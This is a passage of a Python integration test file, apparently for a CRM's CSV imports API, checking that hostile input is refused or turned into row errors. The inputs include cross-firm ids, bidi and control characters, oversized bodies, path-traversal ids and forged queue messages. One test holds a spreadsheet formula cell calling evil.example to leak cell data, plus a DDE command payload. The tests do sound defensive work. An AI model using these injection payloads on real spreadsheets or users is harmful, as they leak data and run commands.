"""Imports attacked (spec 1.3, 5.2; docs/guide/imports.md): another firm's imports, documents and records,
hostile cells and column names, huge bodies and mappings, system keys, match-key tricks, rows too big,
races between dry-runs and applies, tokens and roles short of records writes, hostile cursors and
filters. Each refusal is a stable 4xx with nothing stored; each row's problem is that row's error;
nothing is ever a 500."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable
from typing import Any

import pytest

import kernel.pipeline as pipeline
from documents_api.handler import create_app as documents_app
from imports_api import worker
from kernel.identity import Role
from kernel.pipeline import App
from tests.integration.imports_support import (
    IMPORT_SCOPES,
    app,
    deliver,
    discard,
    drain,
    made,
    messages,
    on,
    worker_ports,
)
from tests.integration.race_support import in_order, together
from tests.integration.records_support import SCOPES, Firm, new_firm, records_app
from tests.support import FormValue, Stack, call

__all__ = ["in_order", "records_app"]
X = "/api/v1/x"
NOBODY = "rec_" + "0" * 26  # a well-formed record id no firm has
COMPANIES = "Company,Web,Type\nAcme Ltd,https://acme.example,Prospect\nBeta GmbH,https://beta.example,Other\n"


@pytest.fixture
def imports(stack: Stack, records_app: App) -> App:
    discard(messages())  # what an earlier test queued and left
    return app(stack)


@pytest.fixture
def firm(stack: Stack, records_app: App) -> Firm:
    return new_firm(stack, records_app, scopes=[*SCOPES, *IMPORT_SCOPES])


def other_firm(stack: Stack, firm: Firm) -> Firm:
    return new_firm(stack, firm.app, scopes=[*SCOPES, *IMPORT_SCOPES])


def company_import(**more: Any) -> dict[str, Any]:
    mapping = {"Company": "name", "Web": "website", "Type": "companyType"}
    return {"recordType": "Company", "mapping": mapping, "csv": COMPANIES} | more


def stored_parts(stack: Stack, firm: Firm) -> list[dict[str, Any]]:
    """The firm's import items and import counters. An import's chunks, plans and row results are keyed
    by its id and written in (or after) the transaction that makes its item, so with no item there are
    none; a Query of each partition, not a Scan of the session's whole table."""
    firm_id = firm.member.firm_id
    items: list[dict[str, Any]] = []
    for partition in (f"{firm_id}#KIT#imports", f"{firm_id}#IMPORT#PROGRESS"):
        page = stack.dynamodb.query(
            TableName=stack.settings.data_table,
            KeyConditionExpression="pk = :pk",
            ExpressionAttributeValues={":pk": {"S": partition}},
            ConsistentRead=True,
        )
        items += page["Items"]
    return items


def assert_refused(answer: Any, status: int, code: str, field: str | None = None) -> None:
    assert answer.status == status, answer.body
    assert answer.code == code, answer.body
    if field is not None:
        assert answer.body["error"]["details"][0]["field"] == field, answer.body


def assert_nothing_stored(stack: Stack, imports: App, firm: Firm) -> None:
    assert on(imports, firm, "GET", "/imports").body["items"] == []
    assert stored_parts(stack, firm) == []
    assert messages() == []


def records(firm: Firm, record_type: str) -> list[dict[str, Any]]:
    listed = firm.call("GET", f"/records/{record_type}", query="limit=200")
    assert listed.status == 200, listed.body
    return list(listed.body["items"])


def rows(imports: App, firm: Firm, import_id: str, query: str = "") -> list[dict[str, Any]]:
    answer = on(imports, firm, "GET", f"/imports/{import_id}/rows", query=query)
    assert answer.status == 200, answer.body
    return list(answer.body["items"])


def dry_run(imports: App, firm: Firm, import_id: str) -> dict[str, Any]:
    answer = on(imports, firm, "POST", f"/imports/{import_id}/dry-run")
    assert answer.status == 200, answer.body
    return dict(answer.body)


def applied(stack: Stack, imports: App, firm: Firm, import_id: str) -> dict[str, Any]:
    answer = on(imports, firm, "POST", f"/imports/{import_id}/apply")
    assert answer.status == 202, answer.body
    drain(stack)
    shown = on(imports, firm, "GET", f"/imports/{import_id}").body
    assert shown["status"] == "applied", shown
    return dict(shown)


def uploaded(stack: Stack, firm: Firm, data: bytes) -> str:
    company = firm.create("Company", name="Holder", companyType="Other")["id"]
    form: dict[str, FormValue] = {
        "entityType": "Company",
        "entityId": company,
        "file": ("a.csv", "text/csv", data),
    }
    answer = call(stack.app(documents_app()), "POST", f"{X}/documents", token=firm.token, form=form)
    assert answer.status == 201, answer.body
    return str(answer.body["id"])


# ---- another firm's ids ------------------------------------------------------------------------------


def test_another_firms_import_is_404_on_every_route_and_stays_as_it_was(
    stack: Stack, imports: App, firm: Firm
) -> None:
    import_id = made(imports, firm, company_import())["id"]
    dry_run(imports, firm, import_id)
    before = on(imports, firm, "GET", f"/imports/{import_id}").body
    other = other_firm(stack, firm)
    for method, path, query in [
        ("GET", "", ""),
        ("GET", "/rows", ""),
        ("GET", "/rows", "outcome=error&cursor=1&limit=1"),
        ("POST", "/dry-run", ""),
        ("POST", "/apply", ""),
    ]:
        answer = on(imports, other, method, f"/imports/{import_id}{path}", query=query)
        assert_refused(answer, 404, "not_found")
    assert on(imports, other, "GET", "/imports").body["items"] == []
    assert messages() == []
    assert on(imports, firm, "GET", f"/imports/{import_id}").body == before
    assert stored_parts(stack, other) == []


def test_another_firms_document_is_refused_word_for_word_as_a_missing_one(
    stack: Stack, imports: App, firm: Firm
) -> None:
    other = other_firm(stack, firm)
    theirs = uploaded(stack, other, COMPANIES.encode())
    base = {key: value for key, value in company_import().items() if key != "csv"}
    answers = [
        on(imports, firm, "POST", "/imports", body=base | {"documentId": document_id})
        for document_id in (theirs, "doc_" + "0" * 26)
    ]
    for answer in answers:
        assert_refused(answer, 400, "invalid_request", "documentId")
    assert answers[0].body["error"]["details"] == answers[1].body["error"]["details"]
    assert_nothing_stored(stack, imports, firm)


@pytest.mark.parametrize(
    "document_id",
    [f"../{'x' * 10}", "doc_\u00e9t\u00e9", "doc_\u202eabc", "doc_\x00", "doc_" + "0" * 40, "", " "],
)
def test_a_hostile_document_id_is_refused_and_nothing_is_stored(
    stack: Stack, imports: App, firm: Firm, document_id: str
) -> None:
    body = {key: value for key, value in company_import().items() if key != "csv"}
    answer = on(imports, firm, "POST", "/imports", body=body | {"documentId": document_id})
    assert answer.status == 400, answer.body
    assert answer.code == "invalid_request"
    assert_nothing_stored(stack, imports, firm)


def test_id_rows_naming_another_firms_record_read_exactly_as_rows_naming_nobody(
    stack: Stack, imports: App, firm: Firm
) -> None:
    other = other_firm(stack, firm)
    theirs = other.create("Deal", name="Theirs")
    theirs_company = other.create("Company", name="Their Co", companyType="Other")
    csv = f"Id,Name\n{theirs['id']},Hijacked\n{NOBODY},Nobody\n{theirs_company['id']},Wrong type\n"
    body = {"recordType": "Deal", "mapping": {"Id": "id", "Name": "name"}, "matchKey": "id", "csv": csv}
    import_id = made(imports, firm, body)["id"]
    checked = dry_run(imports, firm, import_id)["dryRun"]
    assert (checked["create"], checked["update"], checked["error"]) == (0, 0, 3)
    planned = rows(imports, firm, import_id)
    assert [row["errors"] for row in planned] == [planned[1]["errors"]] * 3  # no oracle
    shown = applied(stack, imports, firm, import_id)
    assert shown["progress"] == {"created": 0, "updated": 0, "failed": 3, "done": 3, "rows": 3}
    assert [row["errors"] for row in rows(imports, firm, import_id)] == [planned[1]["errors"]] * 3
    assert other.call("GET", f"/records/Deal/{theirs['id']}").body["name"] == "Theirs"
    assert records(firm, "Deal") == []


def test_a_reference_to_another_firms_company_is_that_rows_error_worded_as_a_missing_one(
    stack: Stack, imports: App, firm: Firm
) -> None:
    other = other_firm(stack, firm)
    theirs = other.create("Company", name="Their Co", companyType="Other")
    mine = firm.create("Company", name="My Co", companyType="Other")
    csv = f"First,Last,Co\nAda,Mine,{mine['id']}\nBob,Theirs,{theirs['id']}\nCy,Nobody,{NOBODY}\n"
    mapping = {"First": "firstName", "Last": "lastName", "Co": "companyId"}
    import_id = made(imports, firm, {"recordType": "Person", "mapping": mapping, "csv": csv})["id"]
    shown = applied(stack, imports, firm, import_id)
    assert shown["progress"]["created"] == 1
    assert shown["progress"]["failed"] == 2
    results = rows(imports, firm, import_id)
    assert [row["outcome"] for row in results] == ["created", "error", "error"]
    assert results[1]["errors"] == results[2]["errors"]
    assert results[1]["errors"][0]["field"] == "companyId"
    assert [p["lastName"] for p in records(firm, "Person")] == ["Mine"]
    related = other.call("GET", "/records/Person", query=f"companyId={theirs['id']}&sort=createdAt")
    assert related.status == 200, related.body
    assert related.body["items"] == []


def test_a_forged_or_hostile_worker_message_writes_nothing_and_is_reported(
    stack: Stack, imports: App, firm: Firm
) -> None:
    draft = made(imports, firm, company_import())["id"]
    applying = made(imports, firm, company_import())["id"]
    assert on(imports, firm, "POST", f"/imports/{applying}/apply").status == 202
    discard(messages())  # the real messages never arrive: only forged ones
    other = other_firm(stack, firm)
    forged = [
        {"firmId": other.member.firm_id, "importId": applying, "chunk": 0},  # another firm's import
        {"firmId": firm.member.firm_id, "importId": draft, "chunk": 0},  # never applied
        {"firmId": firm.member.firm_id, "importId": applying, "chunk": -1},
        {"firmId": firm.member.firm_id, "importId": applying, "chunk": 99},
        {"firmId": firm.member.firm_id, "importId": "imp_../../x", "chunk": 0},
    ]
    event = {"Records": [{"messageId": str(n), "body": json.dumps(m)} for n, m in enumerate(forged)]}
    assert worker.lambda_handler(event, None, worker_ports(stack)) == {"batchItemFailures": []}
    hostile = {
        "Records": [{"messageId": "a", "body": "not json"}, {"messageId": "b", "body": '{"firmId": "x#y"}'}]
    }
    answer = worker.lambda_handler(hostile, None, worker_ports(stack))
    assert answer == {"batchItemFailures": [{"itemIdentifier": "a"}, {"itemIdentifier": "b"}]}
    assert records(firm, "Company") == []
    assert records(other, "Company") == []
    assert on(imports, firm, "GET", f"/imports/{applying}").body["progress"]["done"] == 0


# ---- hostile strings ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    ["Acme\x00", "Acme\x1b[31m", "Ac\u202eme", "Ac\u2066me", "\u0085Acme", "Acme\x7f"],
)
def test_an_inline_csv_holding_control_or_bidi_characters_is_refused_whole(
    stack: Stack, imports: App, firm: Firm, cell: str
) -> None:
    csv = f"Company,Web,Type\n{cell},https://acme.example,Prospect\n"
    answer = on(imports, firm, "POST", "/imports", body=company_import(csv=csv))
    assert_refused(answer, 400, "invalid_request", "csv")
    assert_nothing_stored(stack, imports, firm)


def test_a_lone_surrogate_in_the_body_is_refused_as_json(stack: Stack, imports: App, firm: Firm) -> None:
    raw = json.dumps(company_import()).replace("Acme Ltd", "Acme \\ud800")
    answer = on(imports, firm, "POST", "/imports", raw_body=raw, headers={"content-type": "application/json"})
    assert_refused(answer, 400, "invalid_json")
    assert_nothing_stored(stack, imports, firm)


@pytest.mark.parametrize(
    "header",
    [
        "Com\tpany,Web,Type",
        "Company,Web,",
        "Company, ,Type",
        "Company,Web,\u200b",
        f"Company,Web,{'T' * 201}",
    ],
)
def test_a_hostile_header_is_refused_as_invalid_csv(
    stack: Stack, imports: App, firm: Firm, header: str
) -> None:
    csv = f"{header}\nAcme Ltd,https://acme.example,Prospect\n"
    answer = on(imports, firm, "POST", "/imports", body=company_import(csv=csv))
    assert_refused(answer, 400, "invalid_csv", "csv")
    assert_nothing_stored(stack, imports, firm)


def test_a_document_csv_with_control_and_bidi_cells_makes_those_rows_errors(
    stack: Stack, imports: App, firm: Firm
) -> None:
    csv = (
        "Company,Type\n"
        "Fine Ltd,Prospect\n"
        "Evil\u202eLtd,Prospect\n"
        "Bell\x07 Ltd,Prospect\n"
        "Tab\tLtd,Prospect\n"
        '"Two\nLines",Prospect\n'
    )
    document_id = uploaded(stack, firm, csv.encode())
    body = {
        "recordType": "Company",
        "mapping": {"Company": "name", "Type": "companyType"},
        "documentId": document_id,
    }
    import_id = made(imports, firm, body)["id"]
    checked = dry_run(imports, firm, import_id)["dryRun"]
    assert (checked["create"], checked["error"]) == (1, 4)
    applied(stack, imports, firm, import_id)
    assert [row["outcome"] for row in rows(imports, firm, import_id)] == ["created"] + ["error"] * 4
    assert {c["name"] for c in records(firm, "Company")} == {"Holder", "Fine Ltd"}
    bidi_header = uploaded(stack, firm, "Com\u202epany,Type\nA,Prospect\n".encode())
    refused = on(imports, firm, "POST", "/imports", body=body | {"documentId": bidi_header})
    assert_refused(refused, 400, "invalid_csv", "documentId")


def test_formula_cells_and_formula_column_names_are_kept_as_plain_text(
    stack: Stack, imports: App, firm: Firm
) -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    column = "=cmd|' /C calc'!A0"
    csv = f'"{column}",Type\n"{formula.replace(chr(34), chr(34) * 2)}",Prospect\n@SUM(1+1),Other\n'
    body = {"recordType": "Company", "mapping": {column: "name", "Type": "companyType"}, "csv": csv}
    created = made(imports, firm, body)
    assert created["columns"] == [column, "Type"]
    assert created["mapping"] == {column: "name", "Type": "companyType"}
    applied(stack, imports, firm, created["id"])
    assert sorted(c["name"] for c in records(firm, "Company")) == sorted([formula, "@SUM(1+1)"])


@pytest.mark.parametrize(
    "cell",
    [
        pytest.param("\u0661\u0662\u0663", id="arabic-indic"),
        pytest.param("\uff11\uff12\uff13", id="fullwidth"),
        pytest.param("\u0967,\u0968\u0969\u096a", id="devanagari-grouped"),
        pytest.param("1_000", id="underscores"),
        pytest.param("12abc", id="trailing-letters"),
        pytest.param("1,00", id="bad-grouping"),
        pytest.param("0x10", id="hex"),
    ],
)
def test_a_number_cell_that_no_json_body_could_send_is_that_rows_error(
    stack: Stack, imports: App, firm: Firm, cell: str
) -> None:
    csv = f'Company,Type,Staff\nAcme Ltd,Other,"{cell}"\n'
    body = {
        "recordType": "Company",
        "mapping": {"Company": "name", "Type": "companyType", "Staff": "employeeCount"},
    }
    import_id = made(imports, firm, body | {"csv": csv})["id"]
    dry_run(imports, firm, import_id)
    planned = rows(imports, firm, import_id)
    assert planned[0]["outcome"] == "error", planned
    assert planned[0]["errors"][0]["field"] == "employeeCount"


NUMBER_CELLS = [
    pytest.param("1e1000000", id="1e1000000"),
    pytest.param("-1e999999999", id="-1e999999999"),
    "1e999999",
    "NaN",
    "sNaN",
    "-Infinity",
    "9" * 5000,
    "1e-999999",
]


@pytest.mark.parametrize("cell", NUMBER_CELLS)
def test_a_number_cell_out_of_any_range_is_that_rows_error_never_a_500(
    stack: Stack, imports: App, firm: Firm, cell: str
) -> None:
    csv = f'Company,Type,Staff\nAcme Ltd,Other,"{cell}"\nBeta Ltd,Other,12\n'
    body = {
        "recordType": "Company",
        "mapping": {"Company": "name", "Type": "companyType", "Staff": "employeeCount"},
    }
    import_id = made(imports, firm, body | {"csv": csv})["id"]
    answer = on(imports, firm, "POST", f"/imports/{import_id}/dry-run")
    assert answer.status == 200, answer.body
    assert [row["outcome"] for row in rows(imports, firm, import_id)] == ["error", "create"]
    assert on(imports, firm, "POST", f"/imports/{import_id}/apply").status == 202
    assert deliver(stack, messages()) == 0  # the worker does not fail the chunk (it would, forever)
    assert [c["name"] for c in records(firm, "Company")] == ["Beta Ltd"]


def test_the_worker_applies_the_other_rows_around_a_number_cell_past_any_exponent(
    stack: Stack, imports: App, firm: Firm
) -> None:
    csv = "Company,Type,Staff\nAcme Ltd,Other,1e1000000\nBeta Ltd,Other,12\n"
    body = {
        "recordType": "Company",
        "mapping": {"Company": "name", "Type": "companyType", "Staff": "employeeCount"},
    }
    import_id = made(imports, firm, body | {"csv": csv})["id"]  # applied without a dry-run
    assert on(imports, firm, "POST", f"/imports/{import_id}/apply").status == 202
    assert deliver(stack, messages()) == 0
    shown = on(imports, firm, "GET", f"/imports/{import_id}").body
    assert (shown["status"], shown["progress"]["failed"]) == ("applied", 1)


def test_a_cell_over_the_parsers_limit_is_invalid_csv_and_a_long_cell_is_that_rows_error(
    stack: Stack, imports: App, firm: Firm
) -> None:
    huge = f"Company,Type\n{'A' * 300_001},Other\n"
    body = {"recordType": "Company", "mapping": {"Company": "name", "Type": "companyType"}, "csv": huge}
    assert_refused(on(imports, firm, "POST", "/imports", body=body), 400, "invalid_csv", "csv")
    assert_nothing_stored(stack, imports, firm)
    body["csv"] = f"Company,Type\n{'A' * 5_000},Other\nShort,Other\n"
    import_id = made(imports, firm, body)["id"]
    applied(stack, imports, firm, import_id)
    results = rows(imports, firm, import_id)
    assert [row["outcome"] for row in results] == ["error", "created"]
    assert results[0]["errors"][0]["field"] == "name"


def test_a_row_too_big_for_one_stored_chunk_is_refused_never_a_500(
    stack: Stack, imports: App, firm: Firm
) -> None:
    cell = "A" * 210_000  # each under the parser's limit; the row is twice an item's 400 KB
    csv = f"Company,Type,Notes\nAcme,Other,x\n{cell},Other,{cell}\n"
    body = {"recordType": "Company", "mapping": {"Company": "name", "Type": "companyType"}, "csv": csv}
    answer = on(imports, firm, "POST", "/imports", body=body)
    assert_refused(answer, 400, "invalid_csv", "csv")
    assert_nothing_stored(stack, imports, firm)


# ---- huge bodies, huge mappings, system keys --------------------------------------------------------------


def test_a_body_over_one_mib_is_413_and_nothing_is_stored(stack: Stack, imports: App, firm: Firm) -> None:
    csv = "Company,Type\n" + "Acme Ltd,Other\n" * 75_000
    answer = on(imports, firm, "POST", "/imports", body=company_import(csv=csv,
                mapping={"Company": "name", "Type": "companyType"}))  # fmt: skip
    assert_refused(answer, 413, "payload_too_large")
    assert_nothing_stored(stack, imports, firm)


def test_two_hundred_and_one_columns_are_refused(stack: Stack, imports: App, firm: Firm) -> None:
    header = ",".join(f"C{n}" for n in range(201))
    csv = f"{header}\n" + ",".join("x" for _ in range(201)) + "\n"
    answer = on(imports, firm, "POST", "/imports", body=company_import(csv=csv, mapping={"C0": "name"}))
    assert_refused(answer, 400, "invalid_csv", "csv")
    assert_nothing_stored(stack, imports, firm)


@pytest.mark.parametrize(
    ("mapping", "field"),
    [
        ({f"C{n}": "name" for n in range(201)}, "mapping"),
        ({"C" * 201: "name"}, None),
        ({"Company": "n" * 10_000}, "mapping.Company"),
        ({"Company": {"nested": ["name"]}}, "mapping.Company"),
        ({"Company": None}, "mapping.Company"),
        ({"Company": ""}, "mapping.Company"),
        ({"Company": "name", "Web": "website", "Type": "companyType", "": "city"}, "mapping."),
    ],
)
def test_a_huge_or_hostile_mapping_is_refused_and_nothing_is_stored(
    stack: Stack, imports: App, firm: Firm, mapping: dict[str, Any], field: str | None
) -> None:
    answer = on(imports, firm, "POST", "/imports", body=company_import(mapping=mapping))
    assert_refused(answer, 400, "invalid_request", field)
    assert_nothing_stored(stack, imports, firm)


@pytest.mark.parametrize(
    "key",
    [
        "createdAt", "updatedAt", "version", "type", "createdBy", "updatedBy", "id", "tenantId",
        "expectedCatalogVersion", "duplicateKeys", "gsi1pk", "pk", "sk", "__proto__", "name ", "Name",
    ],
)  # fmt: skip
def test_a_mapping_naming_a_system_key_is_refused(stack: Stack, imports: App, firm: Firm, key: str) -> None:
    mapping = {"Company": "name", "Web": "website", "Type": key}
    answer = on(imports, firm, "POST", "/imports", body=company_import(mapping=mapping))
    assert_refused(answer, 400, "invalid_request", "mapping.Type")
    assert_nothing_stored(stack, imports, firm)


def test_a_column_named_tenant_id_in_the_mapping_is_refused(stack: Stack, imports: App, firm: Firm) -> None:
    csv = "TenantID,Type\nAcme,Other\n"
    answer = on(imports, firm, "POST", "/imports", body=company_import(csv=csv,
                mapping={"TenantID": "name", "Type": "companyType"}))  # fmt: skip
    assert_refused(answer, 400, "tenant_in_request")
    assert_nothing_stored(stack, imports, firm)


@pytest.mark.parametrize(
    "extra",
    [
        {"status": "applied"}, {"progress": {"created": 5}}, {"appliedBy": "usr_x"}, {"rows": 0},
        {"chunks": 0}, {"dryRun": {"create": 1}}, {"id": "imp_x"}, {"version": 7}, {"createdBy": "usr_x"},
        {"source": "document"}, {"columns": ["x"]},
    ],
)  # fmt: skip
def test_a_create_body_setting_the_imports_own_state_is_refused(
    stack: Stack, imports: App, firm: Firm, extra: dict[str, Any]
) -> None:
    answer = on(imports, firm, "POST", "/imports", body=company_import(**extra))
    assert_refused(answer, 400, "invalid_request", next(iter(extra)))
    assert_nothing_stored(stack, imports, firm)


# ---- match keys --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("record_type", "mapping", "match_key"),
    [
        ("Company", {"Company": "name", "Web": "website", "Type": "companyType"}, "createdAt"),
        ("Company", {"Company": "name", "Web": "website", "Type": "companyType"}, "ID"),
        ("Company", {"Company": "name", "Web": "website", "Type": "companyType"}, "id "),
        ("Company", {"Company": "name", "Web": "website", "Type": "companyType"}, "companyType"),
        ("Company", {"Company": "name", "Type": "companyType"}, "website"),
        ("Company", {"Company": "name", "Web": "website", "Type": "companyType"}, "w" * 65),
        ("Company", {"Company": "name", "Web": "website", "Type": "companyType"}, "id"),
        ("Person", {"Company": "firstName", "Web": "lastName"}, "firstName"),
    ],
)
def test_a_match_key_that_is_no_key_of_the_type_is_refused(
    stack: Stack, imports: App, firm: Firm, record_type: str, mapping: dict[str, str], match_key: str
) -> None:
    body = company_import(recordType=record_type, mapping=mapping, matchKey=match_key)
    answer = on(imports, firm, "POST", "/imports", body=body)
    assert answer.status == 400, answer.body
    assert answer.code == "invalid_request"
    assert_nothing_stored(stack, imports, firm)


def test_a_website_key_matches_only_this_firms_record_of_that_host(
    stack: Stack, imports: App, firm: Firm
) -> None:
    other = other_firm(stack, firm)
    theirs = other.create("Company", name="Target", website="https://target.example", companyType="Other")
    victim = firm.create("Company", name="Victim", website="https://victim.example", companyType="Other")
    csv = (
        "Company,Web,Type\n"
        "Mine,https://target.example,Prospect\n"  # only the other firm has this host
        "Tricked,https://victim.example@elsewhere.example/,Prospect\n"  # userinfo is not the host
    )
    body = company_import(csv=csv, matchKey="website")
    import_id = made(imports, firm, body)["id"]
    dry_run(imports, firm, import_id)
    assert [row["outcome"] for row in rows(imports, firm, import_id)] == ["create", "create"]
    applied(stack, imports, firm, import_id)
    assert other.call("GET", f"/records/Company/{theirs['id']}").body["name"] == "Target"
    assert firm.call("GET", f"/records/Company/{victim['id']}").body["name"] == "Victim"


def test_a_key_the_file_repeats_in_another_spelling_is_an_error_on_its_later_rows(
    stack: Stack, imports: App, firm: Firm
) -> None:
    deal = firm.create("Deal", name="Old")
    csv = f"Id,Name\n{deal['id']},First\n  {deal['id']}  ,Second\n{deal['id'].upper()},Third\n"
    body = {"recordType": "Deal", "mapping": {"Id": "id", "Name": "name"}, "matchKey": "id", "csv": csv}
    import_id = made(imports, firm, body)["id"]
    applied(stack, imports, firm, import_id)
    assert [row["outcome"] for row in rows(imports, firm, import_id)] == ["updated", "error", "error"]
    assert firm.call("GET", f"/records/Deal/{deal['id']}").body["name"] == "First"
    assert len(records(firm, "Deal")) == 1
    csv = "Name,Email\nAda,ada@example.com\nAda 2, ADA@EXAMPLE.COM \n"
    lead = {
        "recordType": "Lead",
        "mapping": {"Name": "name", "Email": "contactEmail"},
        "matchKey": "contactEmail",
    }
    lead_import = made(imports, firm, lead | {"csv": csv})["id"]
    dry_run(imports, firm, lead_import)
    assert [row["outcome"] for row in rows(imports, firm, lead_import)] == ["create", "error"]


# ---- records bigger than allowed, catalog changes ----------------------------------------


def test_a_row_that_would_make_a_record_over_the_size_limit_is_that_rows_error(
    stack: Stack, imports: App, firm: Firm
) -> None:
    keys = [f"essay{n}" for n in range(11)]
    for key in keys:
        added = firm.call("POST", "/custom-fields", body={"recordType": "Lead", "key": key, "label": key,
                                                          "fieldType": "longText"})  # fmt: skip
        assert added.status == 201, added.body
    text = "x" * 19_000  # each under longText's 20,000; together over a record's 200,000 bytes
    csv = "Name," + ",".join(keys) + "\nBig," + ",".join([text] * 11) + "\nSmall," + "," * 10 + "\n"
    mapping = {"Name": "name"} | {key: key for key in keys}
    import_id = made(imports, firm, {"recordType": "Lead", "mapping": mapping, "csv": csv})["id"]
    dry_run(imports, firm, import_id)
    shown = applied(stack, imports, firm, import_id)
    assert (shown["progress"]["created"], shown["progress"]["failed"]) == (1, 1)
    results = rows(imports, firm, import_id)
    assert [row["outcome"] for row in results] == ["error", "created"]
    assert "200,000" in results[0]["errors"][0]["message"]
    assert [lead["name"] for lead in records(firm, "Lead")] == ["Small"]


def import_of_a_deleted_custom_field(imports: App, firm: Firm) -> str:
    field = {"recordType": "Lead", "key": "vintage", "label": "Vintage", "fieldType": "text"}
    added = firm.call("POST", "/custom-fields", body=field)
    assert added.status == 201, added.body
    csv = "Name,Vintage\nAda,2024\nBob,\n"
    body = {"recordType": "Lead", "mapping": {"Name": "name", "Vintage": "vintage"}, "csv": csv}
    import_id = str(made(imports, firm, body)["id"])
    assert firm.call("DELETE", f"/custom-fields/{added.body['result']['id']}").status == 200
    return import_id


DELETED_FIELD = (
    "plan.py Planner._values line 122: `self._fields[key]` is a KeyError when the mapping names a custom "
    "field deleted since the import was made (mapping_problems ran only at create)"
)


def test_a_dry_run_after_a_mapped_custom_field_is_deleted_is_no_500(
    stack: Stack, imports: App, firm: Firm
) -> None:
    import_id = import_of_a_deleted_custom_field(imports, firm)
    answer = on(imports, firm, "POST", f"/imports/{import_id}/dry-run")
    assert answer.status < 500, answer.body


def test_an_apply_after_a_mapped_custom_field_is_deleted_still_finishes(
    stack: Stack, imports: App, firm: Firm
) -> None:
    import_id = import_of_a_deleted_custom_field(imports, firm)
    assert on(imports, firm, "POST", f"/imports/{import_id}/apply").status == 202
    assert deliver(stack, messages()) == 0
    assert on(imports, firm, "GET", f"/imports/{import_id}").body["status"] == "applied"


def test_plans_of_rows_whose_errors_quote_long_custom_options_fit_their_item(
    stack: Stack, imports: App, firm: Firm
) -> None:
    keys = ["mood", "tone", "hue"]
    options = ["\U0001f984" * 150, "\U0001f409" * 150]  # 4 bytes each in UTF-8
    for key in keys:
        field = {"recordType": "Lead", "key": key, "label": key, "fieldType": "select", "options": options}
        added = firm.call("POST", "/custom-fields", body=field)
        assert added.status == 201, added.body
    csv = "Mood,Tone,Hue\n" + "x,y,z\n" * 200  # 200 rows, each with three errors quoting the options
    mapping = {"Mood": "mood", "Tone": "tone", "Hue": "hue"}
    import_id = made(imports, firm, {"recordType": "Lead", "mapping": mapping, "csv": csv})["id"]
    answer = on(imports, firm, "POST", f"/imports/{import_id}/dry-run")
    assert answer.status == 200, answer.body
    assert answer.body["dryRun"]["error"] == 200
    assert len(rows(imports, firm, import_id, "limit=200")) == 200


# ---- who may apply ---------------------------------------------------------------------------------------


def test_a_role_with_imports_manage_but_not_records_write_may_check_but_not_apply(
    stack: Stack, imports: App, firm: Firm
) -> None:
    firm_id = firm.member.firm_id
    stack.identity.create_role(
        firm_id, Role("importer", "Importer", frozenset({"records.read", "imports.manage"}))
    )
    importer = stack.member(firm_id, "importer")
    token = stack.api_token(importer, IMPORT_SCOPES)
    import_id = made(imports, firm, company_import(), token)["id"]
    assert on(imports, firm, "POST", f"/imports/{import_id}/dry-run", token).status == 200
    answer = on(imports, firm, "POST", f"/imports/{import_id}/apply", token)
    assert_refused(answer, 403, "permission_denied")
    assert messages() == []
    assert on(imports, firm, "GET", f"/imports/{import_id}").body["status"] == "checked"
    assert records(firm, "Company") == []
    viewer = stack.api_token(stack.member(firm_id, "viewer"), IMPORT_SCOPES)
    for method, path in [("GET", ""), ("GET", "/rows"), ("POST", "/dry-run"), ("POST", "/apply")]:
        assert_refused(
            on(imports, firm, method, f"/imports/{import_id}{path}", viewer), 403, "permission_denied"
        )


# ---- cursors, filters, paths ------------------------------------------------------------


HOSTILE_CURSORS = ["-1", "+1", " 1", "1 ", "0x1", "1e3", "1.5", "1234567", "\u0663", "\uff11", "%00", "1%00",
                   "9" * 5000, "null", "[]"]  # fmt: skip
BAD_QUERIES = ["outcome=bogus", "outcome=ERROR", "outcome=", "outcome=error%00", "outcome[ne]=error",
               "limit=0", "limit=201", "limit=-1", "limit=abc", "limit=1e2"]  # fmt: skip
# A name of the other phase: the planned rows show create, the applied ones created
OTHER_PHASE_OUTCOME = {"planned": "outcome=created", "applied": "outcome=create"}


def test_hostile_cursors_limits_and_outcomes_are_400_on_planned_and_applied_rows(
    stack: Stack, imports: App, firm: Firm
) -> None:
    import_id = made(imports, firm, company_import())["id"]
    dry_run(imports, firm, import_id)
    for phase in ("planned", "applied"):
        if phase == "applied":
            applied(stack, imports, firm, import_id)
        for cursor in HOSTILE_CURSORS:
            answer = on(imports, firm, "GET", f"/imports/{import_id}/rows", query=f"cursor={cursor}")
            assert answer.status == 400, (phase, cursor, answer.body)
            assert answer.code in ("invalid_cursor", "invalid_query", "invalid_request"), answer.body
        for query in [*BAD_QUERIES, OTHER_PHASE_OUTCOME[phase]]:
            answer = on(imports, firm, "GET", f"/imports/{import_id}/rows", query=query)
            assert answer.status == 400, (phase, query, answer.body)
        assert rows(imports, firm, import_id, "cursor=999999") == []
        assert [row["row"] for row in rows(imports, firm, import_id, "cursor=000001")] == [2]


@pytest.mark.parametrize("import_id", ["imp_..%2F..%2Fx", "imp_%00", "x" * 2000, "imp_\u202e", "%2e%2e"])
def test_a_hostile_import_id_in_the_path_is_404(imports: App, firm: Firm, import_id: str) -> None:
    for method, path in [("GET", ""), ("GET", "/rows"), ("POST", "/dry-run"), ("POST", "/apply")]:
        answer = on(imports, firm, method, f"/imports/{import_id}{path}")
        assert answer.status in (400, 404), answer.body
    assert messages() == []


# ---- refusals leave nothing behind; races ------------------------------------------------------------


def test_a_stale_if_match_refuses_the_apply_and_queues_nothing(
    stack: Stack, imports: App, firm: Firm
) -> None:
    import_id = made(imports, firm, company_import())["id"]
    answer = on(imports, firm, "POST", f"/imports/{import_id}/apply", headers={"If-Match": '"9"'})
    assert_refused(answer, 412, "version_conflict")
    assert messages() == []
    assert on(imports, firm, "GET", f"/imports/{import_id}").body["status"] == "draft"


def test_a_stale_if_match_on_an_apply_resume_queues_nothing(stack: Stack, imports: App, firm: Firm) -> None:
    import_id = made(imports, firm, company_import())["id"]
    assert on(imports, firm, "POST", f"/imports/{import_id}/apply").status == 202
    discard(messages())
    answer = on(imports, firm, "POST", f"/imports/{import_id}/apply", headers={"If-Match": '"9"'})
    assert_refused(answer, 412, "version_conflict")
    assert messages() == []


def test_a_dry_run_refused_by_a_stale_if_match_leaves_the_last_plan_in_place(
    stack: Stack, imports: App, firm: Firm
) -> None:
    import_id = made(imports, firm, company_import())["id"]
    before = dry_run(imports, firm, import_id)
    planned = rows(imports, firm, import_id)
    assert len(planned) == 2
